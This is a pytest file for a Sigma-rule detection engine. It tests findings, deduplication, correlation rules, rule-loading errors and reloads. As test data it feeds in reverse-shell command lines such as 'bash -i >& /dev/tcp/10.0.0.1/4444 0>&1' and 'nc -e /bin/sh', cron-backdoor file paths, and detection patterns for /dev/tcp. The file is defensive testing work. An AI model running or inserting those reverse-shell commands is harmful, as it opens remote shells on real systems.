"""The engine as an extension on a fake context: findings, deduplication, correlations, content."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.engines.conftest import FakeClock, FakeContext
from tests.engines.sigma.build import exec_event, file_event, rule, write_rules

from ringfence.engines.sigma import RulesError, SettingsError, SigmaEngine
from ringfence.sdk import FileActivityId, Severity

REVSHELL = "5f0a1c1e-0000-4000-8000-00000000a001"
CRON = "5f0a1c1e-0000-4000-8000-00000000a002"
REVSHELL_RULE = rule("sel:\n  CommandLine|contains: '/dev/tcp/'\ncondition: sel", rule_id=REVSHELL)
CRON_RULE = rule(
    "sel:\n  TargetFilename|startswith: /etc/cron.d/\ncondition: sel", category="file_event", rule_id=CRON
)


def inline(background: Callable[[], None]) -> None:
    background()


@pytest.fixture
def start(make_ctx, clock: FakeClock) -> Callable[..., tuple[SigmaEngine, FakeContext]]:
    def go(content: Path | None, settings: dict | None = None) -> tuple[SigmaEngine, FakeContext]:
        ctx = make_ctx(settings=settings or {}, content_dir=None if content is None else str(content))
        engine = SigmaEngine(clock=clock, background=inline)
        engine.setup(ctx)
        return engine, ctx

    return go


def test_exec_matching_a_rule_raises_a_finding_with_rule_severity_attack_and_process(start, tmp_path) -> None:
    engine, ctx = start(write_rules(tmp_path / "c", **{"rev.yml": REVSHELL_RULE}))
    event = exec_event("/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    engine.on_event(event)
    engine.on_event(exec_event("/usr/bin/ls", "ls -l"))
    (finding,) = ctx.findings
    assert finding.severity is Severity.HIGH
    assert finding.fields["rule"] == REVSHELL
    assert finding.fields["process"] == event.process
    assert finding.fields["related_event"] == event.header.id
    assert "T1059.004" in finding.fields["description"] and "execution" in finding.fields["description"]


def test_file_rule_names_the_file_in_its_finding(start, tmp_path) -> None:
    engine, ctx = start(write_rules(tmp_path / "c", **{"cron.yml": CRON_RULE}))
    engine.on_event(file_event("/etc/cron.d/backdoor"))
    (finding,) = ctx.findings
    assert finding.fields["file_path"] == "/etc/cron.d/backdoor"


def test_repeats_in_the_window_are_one_finding_then_a_count(start, tmp_path, clock: FakeClock) -> None:
    engine, ctx = start(write_rules(tmp_path / "c", **{"rev.yml": REVSHELL_RULE}), {"dedup_window_s": 60})
    for _ in range(5):
        engine.on_event(exec_event("/usr/bin/bash", "bash -c 'cat </dev/tcp/h/1'"))
    engine.on_event(
        exec_event("/usr/bin/bash", "bash -c 'cat </dev/tcp/other/2'")
    )  # another command: its own
    assert len(ctx.findings) == 2
    engine.on_tick()
    assert len(ctx.findings) == 2  # the window is still open
    clock.advance(61)
    engine.on_tick()
    assert len(ctx.findings) == 3
    assert "4 more within 60 s" in ctx.findings[-1].title
    assert engine.statistics().findings_suppressed == 4
    engine.on_event(exec_event("/usr/bin/bash", "bash -c 'cat </dev/tcp/h/1'"))
    assert len(ctx.findings) == 4  # a new window


CORRELATION = """
title: shell downloads
id: 7c1a0000-0000-4000-8000-00000000c001
status: test
level: critical
correlation:
    type: {kind}
    rules:
        - 5f0a1c1e-0000-4000-8000-00000000b001
        - 5f0a1c1e-0000-4000-8000-00000000b002
    group-by:
        - User
    timespan: 1m
{condition}
"""
DOWNLOAD = rule(
    "sel:\n  Image|endswith: /curl\ncondition: sel", rule_id="5f0a1c1e-0000-4000-8000-00000000b001"
)
CHMOD = rule("sel:\n  Image|endswith: /chmod\ncondition: sel", rule_id="5f0a1c1e-0000-4000-8000-00000000b002")


def _correlated(start, tmp_path, kind: str, condition: str, settings: dict | None = None):
    text = CORRELATION.format(kind=kind, condition=condition)
    content = write_rules(tmp_path / "c", **{"a.yml": DOWNLOAD, "b.yml": CHMOD, "corr.yml": text})
    engine, ctx = start(content, settings)
    assert not engine.rules.errors, engine.rules.errors
    return engine, ctx


def _titles(ctx: FakeContext) -> list[str]:
    return [f.title for f in ctx.findings]


def test_event_count_fires_at_the_threshold_inside_the_window_only(start, tmp_path, clock) -> None:
    engine, ctx = _correlated(start, tmp_path, "event_count", "    condition:\n        gte: 3")
    for i in range(2):
        engine.on_event(exec_event("/usr/bin/curl", f"curl {i}"))
    clock.advance(61)  # the first two slide out
    engine.on_event(exec_event("/usr/bin/curl", "curl 2"))
    engine.on_event(exec_event("/usr/bin/curl", "curl 3"))
    assert "shell downloads" not in _titles(ctx)
    engine.on_event(exec_event("/usr/bin/curl", "curl 4"))
    assert _titles(ctx).count("shell downloads") == 1
    (fired,) = [f for f in ctx.findings if f.title == "shell downloads"]
    assert fired.severity is Severity.CRITICAL
    assert len(ctx.findings) == 1  # generate: false (the default): the base rules raise nothing themselves


def test_event_count_groups_by_field(start, tmp_path) -> None:
    engine, ctx = _correlated(start, tmp_path, "event_count", "    condition:\n        gte: 2")
    engine.on_event(exec_event("/usr/bin/curl", "curl a", user="alice"))
    engine.on_event(exec_event("/usr/bin/curl", "curl b", user="bob"))
    assert not ctx.findings
    engine.on_event(exec_event("/usr/bin/curl", "curl c", user="alice"))
    assert _titles(ctx) == ["shell downloads"]


def test_value_count_counts_distinct_values(start, tmp_path) -> None:
    engine, ctx = _correlated(
        start, tmp_path, "value_count", "    condition:\n        field: CommandLine\n        gte: 3"
    )
    for _ in range(5):
        engine.on_event(exec_event("/usr/bin/curl", "curl same"))
    assert not ctx.findings
    engine.on_event(exec_event("/usr/bin/curl", "curl two"))
    engine.on_event(exec_event("/usr/bin/curl", "curl three"))
    assert _titles(ctx) == ["shell downloads"]


def test_temporal_needs_every_rule_in_the_window(start, tmp_path, clock) -> None:
    engine, ctx = _correlated(start, tmp_path, "temporal", "")
    engine.on_event(exec_event("/usr/bin/curl", "curl x"))
    clock.advance(61)
    engine.on_event(exec_event("/usr/bin/chmod", "chmod +x x"))
    assert not ctx.findings
    engine.on_event(exec_event("/usr/bin/curl", "curl x"))
    assert _titles(ctx) == ["shell downloads"]


def test_temporal_ordered_needs_the_order(start, tmp_path) -> None:
    engine, ctx = _correlated(start, tmp_path, "temporal_ordered", "")
    engine.on_event(exec_event("/usr/bin/chmod", "chmod +x x"))
    engine.on_event(exec_event("/usr/bin/curl", "curl x"))  # chmod then curl: wrong order
    assert not ctx.findings
    engine.on_event(exec_event("/usr/bin/chmod", "chmod +x x"))  # curl then chmod
    assert _titles(ctx) == ["shell downloads"]


def test_correlation_state_is_capped_and_the_evictions_counted(start, tmp_path) -> None:
    settings = {"correlation_max_groups": 2, "correlation_max_events": 2}
    engine, ctx = _correlated(start, tmp_path, "event_count", "    condition:\n        gte: 3", settings)
    for user in ("a", "b", "c", "d"):
        engine.on_event(exec_event("/usr/bin/curl", "curl", user=user))
    stats = engine.statistics().correlation
    assert stats.groups_evicted == 2 and stats.groups == 2
    for _ in range(3):
        engine.on_event(exec_event("/usr/bin/curl", "curl", user="d"))
    assert engine.statistics().correlation.events_evicted >= 1
    assert not ctx.findings  # 3 never fit in a group of 2: state stays bounded, and says so


def test_unsupported_correlation_is_reported_and_the_rest_load(start, tmp_path) -> None:
    bad = CORRELATION.format(
        kind="value_sum", condition="    condition:\n        field: ProcessId\n        gte: 3"
    )
    engine, ctx = start(write_rules(tmp_path / "c", **{"a.yml": DOWNLOAD, "b.yml": CHMOD, "corr.yml": bad}))
    (issue,) = engine.rules.errors
    assert issue.file.endswith("corr.yml") and issue.rule == "7c1a0000-0000-4000-8000-00000000c001"
    assert engine.rules.active == 2
    assert ctx.problems and ctx.problems[-1] is not None and "corr.yml" in ctx.problems[-1]


BAD_FILES = {
    "yaml.yml": "title: x\n  bad: [indent\n",
    "no-detection.yml": (
        "title: no detection\nid: 11111111-0000-4000-8000-000000000001\nlogsource:\n    product: linux\n"
    ),
    "bad-condition.yml": rule(
        "sel:\n  Image: x\ncondition: sel and nothere", rule_id="11111111-0000-4000-8000-000000000002"
    ),
    "bad-modifier.yml": rule(
        "sel:\n  Image|nosuch: x\ncondition: sel", rule_id="11111111-0000-4000-8000-000000000003"
    ),
    "backref.yml": rule(
        "sel:\n  CommandLine|re: '(a)\\1'\ncondition: sel", rule_id="11111111-0000-4000-8000-000000000004"
    ),
    "lookahead.yml": rule(
        "sel:\n  CommandLine|re: 'curl(?=.*sh)'\ncondition: sel",
        rule_id="11111111-0000-4000-8000-000000000005",
    ),
    "binary.yaml": "\xff\xfe",
}


def test_every_bad_file_is_reported_with_file_line_and_rule_and_the_good_ones_load(start, tmp_path) -> None:
    content = write_rules(tmp_path / "c", **{"rev.yml": REVSHELL_RULE, **BAD_FILES})
    (content / "binary.yaml").write_bytes(b"title: \xff\xfe\n")
    engine, ctx = start(content)
    errors = engine.rules.errors
    by_file = {os.path.basename(i.file): i for i in errors}
    assert set(by_file) == set(BAD_FILES), errors
    assert by_file["yaml.yml"].line == 2
    assert by_file["binary.yaml"].message == "not UTF-8 text"
    for name in ("bad-condition.yml", "bad-modifier.yml", "backref.yml", "lookahead.yml"):
        assert by_file[name].rule is not None and by_file[name].rule.startswith("11111111"), by_file[name]
        assert by_file[name].line is not None
    assert "re2" in by_file["backref.yml"].message and "re2" in by_file["lookahead.yml"].message
    engine.on_event(exec_event("/usr/bin/bash", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))
    assert len(ctx.findings) == 1  # the good rule runs


def test_rule_naming_a_field_we_do_not_supply_is_reported_and_the_field_is_absent(start, tmp_path) -> None:
    text = rule(
        "sel:\n  Image|endswith: /curl\n  OriginalFileName: curl\n  Hashes|contains: abc\ncondition: sel"
    )
    engine, ctx = start(
        write_rules(
            tmp_path / "c", **{"f.yml": text, "n.yml": rule("sel:\n  NoSuchField: 1\ncondition: not sel")}
        )
    )
    warnings = sorted((os.path.basename(i.file), i.message.split(" ")[1]) for i in engine.rules.issues)
    assert warnings == [("f.yml", "Hashes"), ("f.yml", "OriginalFileName"), ("n.yml", "NoSuchField")]
    assert not engine.rules.errors
    engine.on_event(exec_event("/usr/bin/curl", "curl"))
    assert len(ctx.findings) == 1  # `not sel` over an absent field holds; the other rule cannot match
    assert ctx.findings[0].fields["rule"] != text


def test_pathological_regex_runs_in_linear_time_on_a_huge_command_line(start, tmp_path) -> None:
    text = rule(
        "sel:\n  CommandLine|re: '(a+)+$'\n"
        "filter:\n  CommandLine|re: '(x|xx)+y'\n"
        "condition: sel and not filter"
    )
    engine, ctx = start(write_rules(tmp_path / "c", **{"redos.yml": text}))
    evil = "a" * 100_000 + "!"
    engine.on_event(exec_event("/usr/bin/x", ("x" * 100_000,)))  # backtracking engines never return
    engine.on_event(exec_event("/usr/bin/x", (evil,)))
    assert not ctx.findings
    engine.on_event(exec_event("/usr/bin/x", ("a" * 100_000,)))
    assert len(ctx.findings) == 1


def test_rules_waiting_for_their_logsource_are_compiled_counted_and_never_fail(start, tmp_path) -> None:
    web = rule("sel:\n  cs-uri-query|contains: /etc/passwd\ncondition: sel", category="webserver")
    proxy = rule("sel:\n  c-uri|contains: /cgi-bin\ncondition: sel", category="proxy")
    engine, ctx = start(write_rules(tmp_path / "c", **{"a.yml": web, "d.yml": proxy}))
    stats = engine.statistics()
    assert stats.rules_waiting == {"webserver": 1, "proxy": 1}  # no sensor for web server or proxy logs
    assert stats.rules_active == {}
    engine.on_event(exec_event("/usr/bin/nc", "nc -e /bin/sh"))
    assert not ctx.findings and not engine.rules.errors


def test_content_where_no_rule_loads_refuses_setup_naming_every_problem(start, tmp_path) -> None:
    content = write_rules(tmp_path / "c", **BAD_FILES)
    with pytest.raises(RulesError) as e:
        start(content)
    message = str(e.value)
    assert "\n" not in message
    for name in BAD_FILES:
        assert name in message


def test_empty_content_runs_with_no_rules_and_no_content_warns(start, tmp_path) -> None:
    (tmp_path / "empty").mkdir()
    engine, _ = start(tmp_path / "empty")
    assert engine.rules.loaded == 0
    engine, _ = start(None)
    assert engine.rules.loaded == 0


def test_bad_settings_name_every_key(start, tmp_path) -> None:
    with pytest.raises(SettingsError) as e:
        start(
            None, {"dedup_window_s": -1, "correlation_max_groups": "x", "typo": 1, "placeholders": {"a": [1]}}
        )
    assert set(e.value.problems) >= {"unknown key 'typo'"}
    assert len(e.value.problems) == 4


def _swap(active: Path, slot: Path) -> None:
    """What the agent does: point the active symlink at a complete new slot, atomically."""
    tmp = active.with_name(".active.new")
    os.symlink(slot, tmp)
    os.replace(tmp, active)


def test_broken_new_version_keeps_the_last_good_rules_and_is_reported_until_fixed(
    start, tmp_path, clock
) -> None:
    good = write_rules(tmp_path / "slots" / "1", **{"rev.yml": REVSHELL_RULE})
    active = tmp_path / "active"
    os.symlink(good, active)
    engine, ctx = start(active)
    broken = write_rules(tmp_path / "slots" / "2", **{"rev.yml": "title: [broken\n"})
    _swap(active, broken)
    clock.advance(2)
    engine.on_tick()  # starts the reload (inline here)
    engine.on_tick()  # takes it
    assert ctx.problems[-1] is not None and "rejected" in ctx.problems[-1] and "rev.yml" in ctx.problems[-1]
    engine.on_event(exec_event("/usr/bin/bash", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))
    assert len(ctx.findings) == 1  # the last good rules are in force
    fixed = write_rules(tmp_path / "slots" / "3", **{"cron.yml": CRON_RULE})
    _swap(active, fixed)
    clock.advance(2)
    engine.on_tick()
    engine.on_tick()
    assert ctx.problems[-1] is None
    engine.on_event(file_event("/etc/cron.d/x"))
    engine.on_event(exec_event("/usr/bin/bash", "bash -i >& /dev/tcp/1.2.3.4/2 0>&1"))
    assert [f.fields["rule"] for f in ctx.findings] == [REVSHELL, CRON]
    assert engine.statistics().reloads == 1 and engine.statistics().rejected_reloads == 1
    shutil.rmtree(tmp_path / "slots")


def test_expand_placeholders_come_from_the_engine_settings(start, tmp_path) -> None:
    text = rule("sel:\n  User|expand: '%admins%'\n  Image|endswith: /sudo\ncondition: sel")
    engine, ctx = start(
        write_rules(tmp_path / "c", **{"p.yml": text}), {"placeholders": {"admins": ["alice"]}}
    )
    engine.on_event(exec_event("/usr/bin/sudo", "sudo -i", user="alice"))
    engine.on_event(exec_event("/usr/bin/sudo", "sudo -i", user="bob"))
    assert len(ctx.findings) == 1


def test_timestamp_modifier_on_a_field_we_do_not_supply_loads_with_a_warning_and_never_matches(
    start, tmp_path
) -> None:
    text = rule("sel:\n  Timestamp|hour: 3\ncondition: sel")
    engine, ctx = start(write_rules(tmp_path / "c", **{"t.yml": text}))
    (issue,) = engine.rules.issues
    assert issue.message.startswith("field Timestamp is not supplied")
    engine.on_event(exec_event("/x", "3"))
    assert not ctx.findings


def test_a_byte_that_is_not_utf8_in_argv_cannot_hide_a_command_from_any_rule_kind(start, tmp_path) -> None:
    rules = {
        "contains.yml": rule("sel:\n  CommandLine|contains: '/dev/tcp/'\ncondition: sel"),
        "wildcard.yml": rule("sel:\n  CommandLine: 'bash -i*/dev/tcp/*'\ncondition: sel"),
        "regex.yml": rule("sel:\n  CommandLine|re: 'bash -i.+/dev/tcp/\\d'\ncondition: sel"),
        "lazy.yml": rule(
            "sel:\n  Image|endswith: /bash\nr:\n  CommandLine|re: '-i.*tcp'\ncondition: sel and r"
        ),
    }
    engine, ctx = start(write_rules(tmp_path / "c", **rules))
    argv = ("bash", "-i\udcff", ">&", "/dev/tcp/10.0.0.1/4444")  # \xff from the kernel, surrogateescape'd
    engine.on_event(exec_event("/usr/bin/bash", argv))
    assert len(ctx.findings) == 4, [f.title for f in ctx.findings]


FILTER = """
title: the updater may use curl
id: 0a0a0a0a-0000-4000-8000-0000000000f1
logsource:
    product: linux
    category: process_creation
filter:
    rules:
        - {target}
    selection:
        User: updater
    condition: not selection
"""


def test_sigma_filter_silences_its_rule_for_what_it_names_and_nothing_else(start, tmp_path) -> None:
    curl = rule(
        "sel:\n  Image|endswith: /curl\ncondition: sel", rule_id="0a0a0a0a-0000-4000-8000-000000000001"
    )
    content = write_rules(
        tmp_path / "c",
        **{
            "curl.yml": curl,
            "rev.yml": REVSHELL_RULE,
            "f.yml": FILTER.format(target="0a0a0a0a-0000-4000-8000-000000000001"),
        },
    )
    engine, ctx = start(content)
    assert engine.rules.filters == 1 and not engine.rules.issues
    engine.on_event(exec_event("/usr/bin/curl", "curl -o /tmp/x http://h/ /dev/tcp/", user="updater"))
    assert [f.fields["rule"] for f in ctx.findings] == [REVSHELL]  # only curl's rule is filtered
    engine.on_event(exec_event("/usr/bin/curl", "curl x", user="mallory"))
    assert ctx.findings[-1].fields["rule"] == "0a0a0a0a-0000-4000-8000-000000000001"


def test_filter_that_applies_to_no_rule_is_reported(start, tmp_path) -> None:
    content = write_rules(
        tmp_path / "c",
        **{"rev.yml": REVSHELL_RULE, "f.yml": FILTER.format(target="9a9a9a9a-0000-4000-8000-000000000009")},
    )
    engine, _ = start(content)
    (issue,) = engine.rules.issues
    assert issue.file.endswith("f.yml") and issue.rule == "0a0a0a0a-0000-4000-8000-0000000000f1"
    assert issue.message == "filter applies to no loaded rule"


def test_correlation_with_generate_true_keeps_the_base_rules_own_findings(start, tmp_path) -> None:
    text = (
        CORRELATION.format(kind="event_count", condition="    condition:\n        gte: 2")
        + "    generate: true\n"
    )
    content = write_rules(tmp_path / "c", **{"a.yml": DOWNLOAD, "b.yml": CHMOD, "corr.yml": text})
    engine, ctx = start(content)
    engine.on_event(exec_event("/usr/bin/curl", "curl a"))
    engine.on_event(exec_event("/usr/bin/curl", "curl b"))
    rules = [f.fields["rule"] for f in ctx.findings]
    base = "5f0a1c1e-0000-4000-8000-00000000b001"
    assert rules == [base, base, "7c1a0000-0000-4000-8000-00000000c001"]
    assert len(ctx.findings) == 3  # two base findings and the correlation


def test_dedup_state_is_bounded_and_an_early_closed_window_still_reports_its_count(clock) -> None:
    from ringfence.sdk import Deduplicator

    dedup = Deduplicator(60 * 10**9, clock, max_keys=2)
    assert dedup.admit("a", "a1") and not dedup.admit("a", "a2")
    assert dedup.admit("b", "b1") and dedup.admit("c", "c1")  # "a" closed early to make room
    assert dedup.closed() == [("a2", 1)]
    assert dedup.admit("a", "a3")  # a new window: raised again


def test_absurdly_nested_conditions_are_one_rules_error_or_load_never_the_whole_set(start, tmp_path) -> None:
    parens = "(" * 1000 + "sel" + ")" * 1000
    nots = "not " * 1000 + "sel"
    content = write_rules(
        tmp_path / "c",
        **{
            "parens.yml": rule(f"sel:\n  Image: /x\ncondition: {parens}"),
            "nots.yml": rule(f"sel:\n  Image: /x\ncondition: {nots}"),
            "rev.yml": REVSHELL_RULE,
        },
    )
    engine, ctx = start(content)
    assert [os.path.basename(i.file) for i in engine.rules.errors] == ["nots.yml"]
    engine.on_event(exec_event("/x", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))
    assert {f.fields["rule"] for f in ctx.findings} >= {REVSHELL}
    assert len(ctx.findings) == 2  # the parenthesised rule loaded and matched /x too


def test_appending_to_an_existing_cron_file_is_a_file_event_and_a_new_file_is_one_finding(
    start, tmp_path
) -> None:
    engine, ctx = start(write_rules(tmp_path / "c", **{"cron.yml": CRON_RULE}))
    engine.on_event(file_event("/etc/cron.d/existing", FileActivityId.CLOSE_WRITE))  # only written to
    assert len(ctx.findings) == 1
    engine.on_event(file_event("/etc/cron.d/new"))  # created ...
    engine.on_event(file_event("/etc/cron.d/new", FileActivityId.CLOSE_WRITE))  # ... and written: one finding
    assert [f.fields["file_path"] for f in ctx.findings] == ["/etc/cron.d/existing", "/etc/cron.d/new"]


def test_two_rules_with_one_id_are_reported_and_both_run(start, tmp_path) -> None:
    twin = rule("sel:\n  Image|endswith: /nc\ncondition: sel", rule_id=REVSHELL)
    engine, ctx = start(write_rules(tmp_path / "c", **{"a.yml": REVSHELL_RULE, "b.yml": twin}))
    (issue,) = engine.rules.issues
    assert (
        issue.file.endswith("b.yml")
        and issue.message == f"rule id {REVSHELL} is also used in {tmp_path / 'c' / 'a.yml'}"
    )
    engine.on_event(exec_event("/usr/bin/nc", "nc -e /bin/sh /dev/tcp/x"))
    assert len(ctx.findings) == 2
